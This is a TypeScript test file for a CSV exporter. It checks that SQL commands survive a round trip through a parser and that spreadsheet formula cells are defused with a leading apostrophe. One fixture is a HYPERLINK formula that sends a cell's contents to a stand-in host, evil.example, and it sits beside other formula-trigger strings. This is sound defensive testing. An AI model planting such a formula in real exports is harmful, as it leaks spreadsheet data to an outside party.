// The exports' CSV (src/export/csv.ts) read back by a real CSV parser: commands with commas,
// quotes, newlines and unicode survive, and a cell a spreadsheet would run as a formula is defused.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvRow } from '../../src/export/csv.js';

const COMMANDS = [
  "UPDATE users SET name = 'a, b' WHERE id = 1",
  'SELECT "Quoted" FROM t WHERE x = \'say "hi"\'',
  'UPDATE t\r\nSET a = 1\nWHERE b = 2;\r\n',
  'SELECT \'héllo wörld ✓ 日本語 🚀\'',
  '=HYPERLINK("http://evil.example/?"&A1, "click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\tSELECT 1',
  '\rSELECT 1',
  '',
  'plain',
];

/** What a reader gets back: the field with the one defusing apostrophe taken off. */
const undefuse = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

describe('CSV of an export', () => {
  it('round-trips commands with commas, quotes, newlines and unicode through csv-parse', () => {
    const text = csvRow(['id', 'input', 'rowsAffected']) + COMMANDS.map((c, i) => csvRow([String(i), c, i])).join('');
    const records: string[][] = parse(text, { relax_column_count: false });
    expect(records[0]).toEqual(['id', 'input', 'rowsAffected']);
    expect(records.slice(1).map((r) => undefuse(r[1]))).toEqual(COMMANDS);
    expect(records.slice(1).map((r) => Number(r[2]))).toEqual(COMMANDS.map((_, i) => i));
  });

  it('ends every record with CRLF and quotes only the fields that need it, doubling quotes', () => {
    expect(csvRow(['a', 'b,c', 'say "hi"', 'x\ny', null, 7])).toBe('a,"b,c","say ""hi""","x\ny",,7\r\n');
  });

  it('puts an apostrophe before a text that a spreadsheet would run as a formula, and leaves numbers alone', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('@cmd')).toBe("'@cmd");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField(-1)).toBe('-1');
    expect(csvField('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvField('a=b')).toBe('a=b');
  });
});
